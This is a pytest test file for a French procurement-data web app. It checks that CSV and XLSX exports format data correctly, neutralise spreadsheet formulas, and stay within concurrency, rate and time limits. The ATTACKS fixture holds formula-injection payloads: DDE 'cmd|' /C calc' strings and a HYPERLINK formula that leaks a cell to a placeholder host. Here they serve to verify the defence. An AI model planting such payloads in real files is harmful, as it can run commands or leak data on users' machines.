"""Exports: the filtered set in each format, safe to open (no formula), French CSV by default,
and bounded (concurrency cap, rate-limit cost, time limit, work stopped when the client leaves)."""

from __future__ import annotations

import csv
import dataclasses
import io
import re
import shutil
import socket
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import duckdb
import httpx
import openpyxl
import pandas as pd
import psutil
import pytest
import uvicorn
from fastapi import FastAPI, Request
from fastapi.responses import Response
from fastapi.testclient import TestClient
from python_calamine import CalamineWorkbook

from leviers.spreadsheets import FORMULA_TRIGGERS, FRENCH, MACHINE, Column, cell_sql, neutralised
from leviers.web import exports
from leviers.web.deps import Con
from leviers.web.limits import QueryTimeout

from .conftest import make_app
from .test_contracts import AMOUNTS

# --------------------------------------------------------------------------- formats


def test_french_csv_by_default_reads_right_with_a_french_locale_reader(small: TestClient) -> None:
    response = small.get("/api/v1/contrats.csv?tri=montant")
    assert response.status_code == 200
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.content.startswith(b"\xef\xbb\xbf")  # BOM: Excel reads UTF-8
    table = pd.read_csv(
        io.BytesIO(response.content), sep=";", decimal=",", encoding="utf-8-sig", dtype={"id": str}
    )
    assert len(table) == 7
    assert table["montant_initial_ht"].dtype == float
    assert dict(zip(table["id"], table["montant_initial_ht"], strict=True)) == pytest.approx(AMOUNTS)
    assert table["montant_initial_ht"].sum() == pytest.approx(sum(AMOUNTS.values()))
    assert table.loc[table["id"] == "202409LOT02PAY", "montant_initial_ht"].item() == 149155.02
    dates = pd.to_datetime(table["date_notification"], format="%d/%m/%Y")
    assert dates.notna().all()
    assert sorted(table["consideration_sociale"].unique()) == ["non", "oui"]
    text = response.content.decode("utf-8-sig")
    assert "149155,02" in text
    assert "12/12/2024" in text  # the déchèterie contract, notified on 2024-12-12


def test_machine_csv_is_comma_dot_iso_without_bom(small: TestClient) -> None:
    response = small.get("/api/v1/contrats.csv?montant_min=100000&tri=montant&format=machine")
    assert response.status_code == 200
    assert "attachment" in response.headers["content-disposition"]
    assert not response.content.startswith(b"\xef\xbb\xbf")
    table = list(csv.DictReader(io.StringIO(response.text)))
    assert [r["id"] for r in table] == [
        "202410977",
        "202424FO15-02",
        "2024FCS05_1",
        "202409LOT02PAY",
        "202424 3 001",
    ]
    assert table[0]["montant_initial_ht"] == "829684.85"
    assert table[0]["synthetique"] == "false"
    assert table[0]["consideration_sociale"] == "false"
    assert all(len(r["date_notification"]) == 10 and r["date_notification"][4] == "-" for r in table)
    frame = pd.read_csv(io.StringIO(response.text), dtype={"id": str})
    assert frame["montant_initial_ht"].sum() == pytest.approx(sum(v for v in AMOUNTS.values() if v >= 100000))


def test_unknown_csv_format_is_refused_in_french(small: TestClient) -> None:
    response = small.get("/api/v1/contrats.csv?format=excel")
    assert response.status_code == 422
    error = response.json()["erreur"]
    assert "Format" in error["message"]
    assert [d["parametre"] for d in error["details"]] == ["format"]


def test_data_format_filter_and_export_dialect_do_not_collide(small: TestClient) -> None:
    """`format` is the CSV dialect; the DECP schema filter is `format_donnees`."""
    response = small.get("/api/v1/contrats.csv?format_donnees=2019&format=machine")
    assert response.status_code == 200
    assert not response.content.startswith(b"\xef\xbb\xbf")


def test_xlsx_export_is_the_filtered_set(small: TestClient) -> None:
    response = small.get("/api/v1/contrats.xlsx?social=avec")
    assert response.status_code == 200
    workbook = CalamineWorkbook.from_filelike(io.BytesIO(response.content))
    table = workbook.get_sheet_by_name("contrats").to_python()
    header, rows = table[0], table[1:]
    assert len(rows) == 1
    row = dict(zip(header, rows[0], strict=True))
    assert row["id"] == "24-1065297-2"
    assert row["montant_initial_ht"] == 27364
    assert row["considerations_sociales"] == "Clause sociale"
    about = {r[0]: r[1] for r in workbook.get_sheet_by_name("à propos").to_python()}
    assert about["Nombre de contrats"] == "1"
    assert about["Filtres"] == "social = avec"
    assert about["  montant_initial_ht"] == "montant initial notifié, euros HT"


def test_contracts_page_links_to_the_three_exports(small: TestClient) -> None:
    body = small.get("/api/v1/contrats?annee=2024").json()
    assert body["export"]["csv"] == "/api/v1/contrats.csv?annee=2024"
    assert body["export"]["csv_machine"] == "/api/v1/contrats.csv?annee=2024&format=machine"
    page = small.get("/contrats?annee=2024").text
    assert "CSV pour programmes" in page


# --------------------------------------------------------------------------- formula injection

# The cases of issue 22 and their neighbours: live formulas, DDE, leading tab / carriage return,
# a formula after spaces, the full-width equals sign, and text that must survive quoting.
ATTACKS = {
    "202404": '=HYPERLINK("http://exemple.invalid/?q="&A1;"Cliquez ici")',
    "202424 3 001": "=cmd|' /C calc'!A0",
    "202424FO15-02": "cmd|' /C calc'!A0",
    "24-1065297-2": "@SUM(1+1)*cmd|' /C calc'!A0",
    "2024FCS05_1": "\r=1+1 après un retour chariot",
    "202410977": "\t=1+1 après une tabulation",
    "202409LOT02PAY": '  +33 1 23; "guillemets"\r\nligne suivante',
}
OTHER_FIELDS = {  # the nature column of three contracts
    "202404": "-2+3",
    "202424 3 001": "\uff1d1+1",
    "202424FO15-02": "Marché",
}


@pytest.fixture(scope="module")
def hostile_app(small_warehouse: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[FastAPI]:
    """The real small warehouse with objects and natures rewritten as attacks (test copy only)."""
    path = tmp_path_factory.mktemp("hostile") / "leviers.duckdb"
    shutil.copyfile(small_warehouse, path)
    con = duckdb.connect(str(path))
    for identifier, text in ATTACKS.items():
        con.execute("UPDATE contracts SET objet = ? WHERE id = ?", [text, identifier])
    for identifier, text in OTHER_FIELDS.items():
        con.execute("UPDATE contracts SET nature = ? WHERE id = ?", [text, identifier])
    con.close()
    app = make_app(path, tmp_path_factory.mktemp("cache-hostile"))
    yield app
    app.state.store.close()


def _unescaped(text: str) -> str:
    """OOXML writes control characters as _xHHHH_ (Excel reads them back; openpyxl leaves them)."""
    return re.sub(r"_x([0-9A-Fa-f]{4})_", lambda m: chr(int(m.group(1), 16)), text)


def _expected(text: str) -> str:
    return "'" + text if text.lstrip(" ").startswith(FORMULA_TRIGGERS) or text[0] in "\t\r" else text


@pytest.mark.parametrize(("fmt", "dialect"), [("fr", FRENCH), ("machine", MACHINE)])
def test_csv_neutralises_formulas_and_still_parses(hostile_app: FastAPI, fmt: str, dialect: object) -> None:
    client = TestClient(hostile_app, raise_server_exceptions=False)
    response = client.get(f"/api/v1/contrats.csv?format={fmt}")
    assert response.status_code == 200
    text = response.content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=dialect.delimiter))  # type: ignore[attr-defined]
    header, body = rows[0], rows[1:]
    assert len(body) == 7  # a carriage return or a line feed inside a text never cuts a row
    assert {len(r) for r in body} == {len(header)}
    records = [dict(zip(header, r, strict=True)) for r in body]
    by_id = {r["id"]: r for r in records}
    for identifier, attack in ATTACKS.items():
        assert by_id[identifier]["objet"] == _expected(attack), identifier
    assert by_id["202424FO15-02"]["objet"] == "cmd|' /C calc'!A0"  # harmless without a trigger
    assert by_id["202404"]["nature"] == "'-2+3"
    assert by_id["202424 3 001"]["nature"] == "'\uff1d1+1"
    for record in records:
        for value in record.values():
            assert not value.lstrip(" ").startswith(FORMULA_TRIGGERS), value
    # A field starting with a carriage return is quoted, so the file parses.
    assert "\"'\r=1+1" in text


def test_xlsx_text_cells_are_never_formulas(hostile_app: FastAPI) -> None:
    client = TestClient(hostile_app, raise_server_exceptions=False)
    response = client.get("/api/v1/contrats.xlsx")
    assert response.status_code == 200
    workbook = openpyxl.load_workbook(io.BytesIO(response.content))
    sheet = workbook["contrats"]
    header = [cell.value for cell in sheet[1]]
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert cells
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert not [c.coordinate for c in cells if c.hyperlink is not None]
    objects = {}
    for row in sheet.iter_rows(min_row=2, values_only=True):
        record = dict(zip(header, row, strict=True))
        objects[record["id"]] = _unescaped(record["objet"])
    # Kept exactly as published: text cells need no apostrophe.
    assert objects == {identifier: attack for identifier, attack in ATTACKS.items()}
    for name in workbook.sheetnames:
        assert not [c.coordinate for row in workbook[name].iter_rows() for c in row if c.data_type == "f"]
    # The same through calamine (the reader the project ships).
    table = CalamineWorkbook.from_filelike(io.BytesIO(response.content)).get_sheet_by_name("contrats")
    assert {r[6] for r in table.to_python()[1:]} == set(ATTACKS.values())


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "+1",
        "-1",
        "@A1",
        "\tx",
        "\rx",
        "   =x",
        "\uff1dx",
        "\uff20x",
        "a=b",
        "",
        " ",
        "Marché",
        "'déjà",
        'un "mot"',
        "x;y,z",
        "a\r\nb",
    ],
)
def test_csv_cells_from_sql_match_the_python_rule(text: str) -> None:
    con = duckdb.connect()
    for dialect in (FRENCH, MACHINE):
        sql = cell_sql(Column("t", "?", "text"), dialect)
        field = con.execute(f"SELECT {sql}", [text] * sql.count("?")).fetchone()[0]  # type: ignore[index]
        parsed = next(csv.reader(io.StringIO(field + "\r\n", newline=""), delimiter=dialect.delimiter))
        assert parsed == [neutralised(text)]


def test_numbers_dates_and_booleans_per_dialect() -> None:
    con = duckdb.connect()

    def field(kind: str, value: object, dialect: object) -> str:
        sql = cell_sql(Column("v", "?", kind), dialect)  # type: ignore[arg-type]
        return str(con.execute(f"SELECT {sql}", [value] * sql.count("?")).fetchone()[0])  # type: ignore[index]

    assert field("amount", 829684.85, FRENCH) == "829684,85"
    assert field("amount", 829684.85, MACHINE) == "829684.85"
    assert field("amount", 45155.0, FRENCH) == "45155"
    assert field("amount", None, FRENCH) == ""
    assert field("amount", float("nan"), FRENCH) == ""
    assert field("integer", 12, FRENCH) == "12"
    assert field("date", "2024-12-12", FRENCH) == "12/12/2024"
    assert field("date", "2024-12-12", MACHINE) == "2024-12-12"
    assert field("boolean", True, FRENCH) == "oui"
    assert field("boolean", False, MACHINE) == "false"
    assert field("boolean", None, FRENCH) == ""


# --------------------------------------------------------------------------- bounded work


def test_exports_over_the_cap_get_a_french_503_with_retry_after(
    small_warehouse: Path, tmp_path: Path
) -> None:
    app = make_app(small_warehouse, tmp_path, max_exports=1)
    client = TestClient(app, raise_server_exceptions=False)
    try:
        assert client.get("/api/v1/contrats.csv").status_code == 200
        slots, _ = app.state.export_slots
        assert slots.running == 0  # given back once sent
        assert slots.take()  # another export is running
        for path in ("/api/v1/contrats.csv", "/api/v1/contrats.xlsx"):
            refused = client.get(path)
            assert refused.status_code == 503
            assert int(refused.headers["retry-after"]) > 0
            assert "exports sont déjà en cours" in refused.json()["erreur"]["message"]
        slots.give_back()
        assert client.get("/api/v1/contrats.xlsx").status_code == 200
    finally:
        app.state.store.close()


def test_export_cost_in_the_rate_limit_grows_with_rows(
    small_warehouse: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    assert exports.rate_cost(0, "csv") == 1
    assert exports.rate_cost(300_000, "xlsx") == 1 + 150
    assert exports.rate_cost(300_000, "csv") == 1 + 15
    monkeypatch.setattr(exports, "ROWS_PER_TOKEN", {"csv": 1, "xlsx": 1})  # one token per row
    # One token a minute: a slow, loaded machine does not refill the bucket between the requests.
    app = make_app(small_warehouse, tmp_path, rate_limit_per_minute=1, rate_limit_burst=10)
    client = TestClient(app, raise_server_exceptions=False)
    try:
        assert client.get("/api/v1/contrats.csv").status_code == 200  # 7 rows: 8 tokens of 10
        assert client.get("/api/v1/accueil").status_code == 200
        assert client.get("/api/v1/accueil").status_code == 200
        refused = client.get("/api/v1/accueil")
        assert refused.status_code == 429
        assert int(refused.headers["retry-after"]) >= 1
    finally:
        app.state.store.close()


def test_slow_queries_are_stopped_with_a_french_503(small_warehouse: Path, tmp_path: Path) -> None:
    app = make_app(small_warehouse, tmp_path, query_time_limit_s=0.5)

    @app.get("/api/v1/lente")
    def slow(con: Con) -> dict[str, int]:
        row = con.execute("SELECT count(*) FROM range(1000000000000) t(i) WHERE i % 7 = 3").fetchone()
        return {"n": row[0] if row else 0}

    client = TestClient(app, raise_server_exceptions=False)
    try:
        started = time.monotonic()
        response = client.get("/api/v1/lente")
        assert time.monotonic() - started < 10
        assert response.status_code == 503
        assert "temps imparti" in response.json()["erreur"]["message"]
        assert int(response.headers["retry-after"]) > 0
        assert client.get("/api/v1/contrats").status_code == 200  # the pool still serves
    finally:
        app.state.store.close()


def test_a_store_cursor_is_interrupted_at_its_limit(small_app: FastAPI) -> None:
    store = small_app.state.store
    with pytest.raises(QueryTimeout), store.cursor(time_limit=0.3) as con:
        con.execute("SELECT count(*) FROM range(1000000000000) t(i) WHERE i % 7 = 3").fetchone()
    with store.cursor(time_limit=5) as con:  # a later query on a pooled cursor is not hurt
        assert con.execute("SELECT 42").fetchone() == (42,)


# A large export written from any query: the module is general (a query, columns, labels).
NUMBERS = exports.ExportQuery(
    stem="essai",
    sheet="nombres",
    columns=[Column("n", "c.i", "integer", "un entier"), Column("texte", "'=' || c.i::VARCHAR", "text")],
    source="range(?) AS c(i)",
    params=[900_000],
    rows=900_000,
)


MANY_NUMBERS = dataclasses.replace(NUMBERS, params=[10**10], rows=10**10)  # more than any test reads


def _numbers_app(warehouse: Path, cache: Path, **settings: object) -> FastAPI:
    app = make_app(warehouse, cache, **settings)

    @app.get("/api/v1/nombres.{fmt}")
    async def numbers(request: Request, fmt: str) -> Response:
        if fmt == "xlsx":
            return await exports.respond(request, NUMBERS, "xlsx")
        return await exports.respond(request, MANY_NUMBERS, "csv")

    return app


def test_an_export_past_its_time_limit_is_stopped(small_warehouse: Path, tmp_path: Path) -> None:
    app = _numbers_app(small_warehouse, tmp_path, export_time_limit_s=1.0)
    client = TestClient(app, raise_server_exceptions=False)
    try:
        response = client.get("/api/v1/nombres.xlsx")
        assert response.status_code == 503
        assert "temps imparti" in response.json()["erreur"]["message"]
        assert app.state.export_slots[0].running == 0
        assert not _workers(settle_s=5.0)
    finally:
        app.state.store.close()


def _workers(settle_s: float = 0.0) -> list[psutil.Process]:
    """The spreadsheet workers still alive, waiting up to `settle_s` for stopped ones to exit (a
    killed process takes a moment to disappear on a loaded machine)."""
    deadline = time.monotonic() + settle_s
    while True:
        found = _alive_workers()
        if not found or time.monotonic() >= deadline:
            return found
        time.sleep(0.1)


def _alive_workers() -> list[psutil.Process]:
    found = []
    for child in psutil.Process().children(recursive=True):
        try:
            if "leviers.spreadsheets" in " ".join(child.cmdline()):
                found.append(child)
        except psutil.Error:
            continue
    return found


@pytest.fixture
def live_numbers(small_warehouse: Path, tmp_path: Path) -> Iterator[tuple[FastAPI, str]]:
    """A real server (uvicorn on loopback) with the numbers export, so that clients can leave."""
    app = _numbers_app(small_warehouse, tmp_path)
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        port = sock.getsockname()[1]
    server = uvicorn.Server(uvicorn.Config(app, host="127.0.0.1", port=port, log_level="warning"))
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    deadline = time.monotonic() + 30
    while not server.started:
        assert time.monotonic() < deadline, "le serveur de test n'a pas démarré"
        time.sleep(0.05)
    yield app, f"http://127.0.0.1:{port}"
    server.should_exit = True
    thread.join(timeout=10)
    app.state.store.close()


def _wait_for(condition: object, seconds: float = 10) -> bool:
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        if condition():  # type: ignore[operator]
            return True
        time.sleep(0.05)
    return False


def test_a_cancelled_csv_download_stops_the_query(live_numbers: tuple[FastAPI, str]) -> None:
    app, base = live_numbers
    with httpx.Client(timeout=30) as client, client.stream("GET", base + "/api/v1/nombres.csv") as response:
        assert response.status_code == 200
        first = next(response.iter_bytes())
        assert first.startswith(b"\xef\xbb\xbfn;texte")
        slots, _ = app.state.export_slots
        assert slots.running == 1
    # The client left after the first bytes: the stream ends, its cursor and slot are given back.
    assert _wait_for(lambda: slots.running == 0)


def test_a_cancelled_xlsx_download_stops_the_worker(live_numbers: tuple[FastAPI, str]) -> None:
    app, base = live_numbers
    with pytest.raises(httpx.ReadTimeout), httpx.Client(timeout=3) as client:
        client.get(base + "/api/v1/nombres.xlsx")  # 900 000 rows: the worker needs far longer
    slots, _ = app.state.export_slots
    assert _wait_for(lambda: slots.running == 0)
    assert _wait_for(lambda: not _workers())


def test_memory_budget_leaves_duckdb_what_the_rest_does_not_use(small_app: FastAPI) -> None:
    from leviers.web import memory

    store = small_app.state.store
    rss = memory.resident_bytes()
    assert rss is not None
    assert rss > 0
    limit = memory.fit_duckdb(store, "64GB", exports=2)
    assert limit is not None
    assert limit <= 64 * 10**9 - 2 * memory.WORKER_BYTES - memory.HEADROOM_BYTES - (rss // 2)
    with store.cursor() as con:
        setting = con.execute("SELECT current_setting('memory_limit')").fetchone()[0]  # type: ignore[index]
    assert setting.endswith("GiB") or setting.endswith("MiB")
    # A budget too small for this process still leaves DuckDB enough to answer pages.
    assert memory.fit_duckdb(store, "100MB", exports=2) == memory.DUCKDB_FLOOR_BYTES
    memory.fit_duckdb(store, "1.5GB", exports=2)


def test_a_failed_export_stage_raises_its_own_error() -> None:
    # Regression: an export interrupted in its query stage (DuckDB's InterruptException) reached the
    # store wrapped in the task group's ExceptionGroup and became a 500 instead of a French 503.
    import anyio
    from starlette.requests import Request as StarletteRequest

    async def disconnected_never() -> dict[str, str]:
        await anyio.sleep(3600)
        return {"type": "http.disconnect"}

    request = StarletteRequest(
        {"type": "http", "method": "GET", "path": "/", "headers": []}, disconnected_never
    )

    async def failing() -> None:
        await anyio.sleep(0)
        raise duckdb.InterruptException("INTERRUPT Error: Interrupted!")

    async def run() -> None:
        await exports._until_done_or_gone(request, failing(), lambda: None)

    with pytest.raises(duckdb.InterruptException):
        anyio.run(run)
